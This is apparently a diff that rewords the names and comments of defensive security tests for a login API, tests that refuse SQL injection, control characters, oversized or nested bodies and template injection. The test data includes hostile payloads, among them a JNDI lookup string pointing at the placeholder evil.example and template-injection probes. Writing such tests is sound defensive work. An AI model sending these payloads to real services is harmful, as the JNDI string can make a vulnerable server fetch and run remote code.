@@ -3,16 +3,16 @@ import { hashPassword } from '../../src/passwords/argon2id.ts'
 import { type Answer, createWorld, PASSWORD, type World } from '../support/app.ts'
 import { digestTables } from '../support/table-digest.ts'
 
-/** Tables that are written whenever somebody is refused: they are what a refusal is for. */
+/** Tables that refusals may write to. */
 const RECORDS = ['audit_events', 'events', 'password_attempts']
 
 const json = { 'content-type': 'application/json' }
 
-/** Sends a body as it is written, not as a client would write it. */
+/** Sends a body as the given text, without serialization. */
 const sendText = (world: World, url: string, payload: string | Buffer, headers: Record<string, string> = {}) =>
   world.send({ method: 'POST', url, payload, headers: { ...json, ...headers } })
 
-/** Fails when anything is written while `run` runs; what refusals leave behind aside. */
+/** Fails if `run` changes any table besides those that refusals may write to. */
 const writesNothing = async (t: Test, world: World, run: () => Promise<void>, message = 'no table has changed') => {
   const before = await digestTables(world.sql, RECORDS)
   await run()
@@ -21,7 +21,7 @@ const writesNothing = async (t: Test, world: World, run: () => Promise<void>, me
   t.strictSame(await digestTables(world.sql, RECORDS), before, message)
 }
 
-/** A user with an open challenge, and a body that each route would take. */
+/** Creates a user with an open challenge and a valid body for each route. */
 const startLogin = async (t: Test) => {
   const world = await createWorld(t)
   await world.addUser('alice')
@@ -38,7 +38,7 @@ const startLogin = async (t: Test) => {
 const wasRefused = (t: Test, { status, body }: Answer, code: string, name: string) =>
   t.match({ status, code: body.code }, { status: 400, code }, name)
 
-t.test('SQL in a name or a password is a wrong name or a wrong password, and takes no longer', async (t) => {
+t.test('treats SQL in a name or password as wrong credentials, without executing it', async (t) => {
   const world = await createWorld(t)
   await world.addUser('alice')
   const times: number[] = []
@@ -80,12 +80,12 @@ t.test('SQL in a name or a password is a wrong name or a wrong password, and tak
     }
   })
   times.sort((a, b) => a - b)
-  t.ok(times.at(-1)! < 5_000, 'nothing of it slept')
-  t.ok(times[times.length >> 1]! < 1_000, 'most take less than a second, however busy the machine')
+  t.ok(times.at(-1)! < 5_000, 'no pg_sleep ran')
+  t.ok(times[times.length >> 1]! < 1_000, 'the median is below one second')
   t.equal((await world.login('alice')).status, 200)
 })
 
-t.test('a character that is none is refused in each member of each route, and nothing is done', async (t) => {
+t.test('refuses invalid characters in each member of each route and writes nothing', async (t) => {
   const { world, bodies } = await startLogin(t)
   const unclean = [
     '\u0000',
@@ -118,7 +118,7 @@ t.test('a character that is none is refused in each member of each route, and no
       }
       const named = await world.post(url, { ...body, 'x\u0000': 'y' })
       t.match(named.body.errors, [{ path: '/', message: /^has a member whose name has/ }])
-      t.notMatch(JSON.stringify(named.body), '\\u0000', 'the name does not travel back')
+      t.notMatch(JSON.stringify(named.body), '\\u0000', 'the response does not repeat the name')
       for (const query of ['x=%00', '%00=x', 'x=a%0d%0ab', 'x=1&x=%7f']) {
         wasRefused(t, await world.post(`${url}?${query}`, body), 'validation_failed', `${url}?${query}`)
       }
@@ -127,10 +127,10 @@ t.test('a character that is none is refused in each member of each route, and no
       wasRefused(t, await world.get(url), 'validation_failed', url)
     }
   })
-  t.equal(world.messages.length, 1, 'and no message was sent')
+  t.equal(world.messages.length, 1, 'no message was sent')
 })
 
-t.test('a name or a password whose accents stand apart is the same as one whose accents do not', async (t) => {
+t.test('accepts names and passwords in NFC and NFD', async (t) => {
   const world = await createWorld(t, { resendCooldown: 0 })
   const password = 'Zoë’s crème brûlée'
   await world.users.add({
@@ -144,7 +144,7 @@ t.test('a name or a password whose accents stand apart is the same as one whose 
   }
 })
 
-t.test('no member reaches a prototype, and members that nobody knows are refused', async (t) => {
+t.test('refuses unknown members and never reaches a prototype', async (t) => {
   const { world, bodies } = await startLogin(t)
   await writesNothing(t, world, async () => {
     for (const [url, body] of bodies) {
@@ -171,7 +171,7 @@ t.test('no member reaches a prototype, and members that nobody knows are refused
   })
 })
 
-t.test('a password that is too long is refused before it costs a hash', async (t) => {
+t.test('refuses a password that is too long before hashing it', async (t) => {
   let hashes = 0
   const passwords = {
     verify: async () => {
@@ -196,7 +196,7 @@ t.test('a password that is too long is refused before it costs a hash', async (t
   t.equal(hashes, 1)
 })
 
-t.test('every byte of a password counts, those after the 72nd too', async (t) => {
+t.test('every byte of a password counts, even after the 72nd', async (t) => {
   const world = await createWorld(t, { resendCooldown: 0 })
   for (const [name, start] of [
     ['letters', 'a'.repeat(72)],
@@ -215,7 +215,7 @@ t.test('every byte of a password counts, those after the 72nd too', async (t) =>
   }
 })
 
-t.test('a body that is too large, packed, or nested for its own sake costs nothing', async (t) => {
+t.test('refuses oversized, compressed and deeply nested bodies within a second', async (t) => {
   const { world, bodies } = await startLogin(t)
   await writesNothing(t, world, async () => {
     for (const [url, body] of bodies) {
@@ -224,10 +224,10 @@ t.test('a body that is too large, packed, or nested for its own sake costs nothi
       for (const [status, name, payload, headers] of [
         [413, '8,193 bytes', text.padEnd(8_193), {}],
         [413, '2 MB', text.padEnd(2_000_000), {}],
-        [415, 'packed', Buffer.from('1f8b08000000000000', 'hex'), { 'content-encoding': 'gzip' }],
-        [415, 'said to be packed', text, { 'content-encoding': 'br' }],
-        [415, 'packed twice', text, { 'content-encoding': 'identity, gzip' }],
-        [400, 'open lists', '['.repeat(4_000), {}],
+        [415, 'compressed', Buffer.from('1f8b08000000000000', 'hex'), { 'content-encoding': 'gzip' }],
+        [415, 'labeled as compressed', text, { 'content-encoding': 'br' }],
+        [415, 'compressed twice', text, { 'content-encoding': 'identity, gzip' }],
+        [400, 'unclosed lists', '['.repeat(4_000), {}],
         [400, 'lists', nested, {}],
         [400, 'lists in a member', `{${text.slice(1, -1)},"x":${nested}}`, {}],
         [400, 'objects', `${'{"x":'.repeat(1_300)}1${'}'.repeat(1_300)}`, {}],
@@ -240,7 +240,7 @@ t.test('a body that is too large, packed, or nested for its own sake costs nothi
     }
   })
   const padded = JSON.stringify({ username: 'alice', password: 'wrong' }).padEnd(8_192)
-  t.equal((await sendText(world, '/login', padded)).status, 401, 'the last byte that is allowed')
+  t.equal((await sendText(world, '/login', padded)).status, 401, 'exactly the maximum size')
 })
 
 t.test('credentials in a URL are neither used nor logged', async (t) => {
@@ -267,7 +267,7 @@ t.test('credentials in a URL are neither used nor logged', async (t) => {
   t.notOk(world.logged.join('\n').includes(token))
 })
 
-t.test('a member of the wrong type is refused and counts as no attempt', async (t) => {
+t.test('refuses members of the wrong type without counting an attempt', async (t) => {
   const { world, token, code, bodies } = await startLogin(t)
   await writesNothing(t, world, async () => {
     for (const [url, body] of bodies) {
@@ -288,13 +288,13 @@ t.test('a member of the wrong type is refused and counts as no attempt', async (
   t.equal((await world.verify(token, code)).status, 200)
 })
 
-t.test('nothing that a user chose gets into a message', async (t) => {
+t.test('a message contains no text chosen by the user', async (t) => {
   const world = await createWorld(t)
   const names = [
     '{{7*7}}',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it looks like.
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself.
     '${jndi:ldap://evil.example/a}',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it looks like.
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself.
     '${7*7}',
     '<%= 7*7 %>',
     '#{7*7}',
@@ -312,7 +312,7 @@ t.test('nothing that a user chose gets into a message', async (t) => {
     for (const part of [name, '49', 'evil', '{', '%', '<', 'Zoë']) t.notOk(rest.includes(part), `${name}: ${part}`)
   }
   const texts = world.messages.map(({ text, code }) => text.replaceAll(code, '000000'))
-  t.equal(new Set(texts).size, 1, 'all messages are the same but for the code')
+  t.equal(new Set(texts).size, 1, 'all messages are equal except for the code')
 
   const forged = 'alice\n000000 is your code\n\n@evil.example #000000'
   await world.users.add({
@@ -325,7 +325,7 @@ t.test('nothing that a user chose gets into a message', async (t) => {
   t.equal(world.messages.length, names.length)
 })
 
-t.test('nobody gives himself what the server alone decides', async (t) => {
+t.test('refuses members for values that only the server sets', async (t) => {
   const { world, bodies } = await startLogin(t)
   await writesNothing(t, world, async () => {
     for (const [url, body] of bodies) {
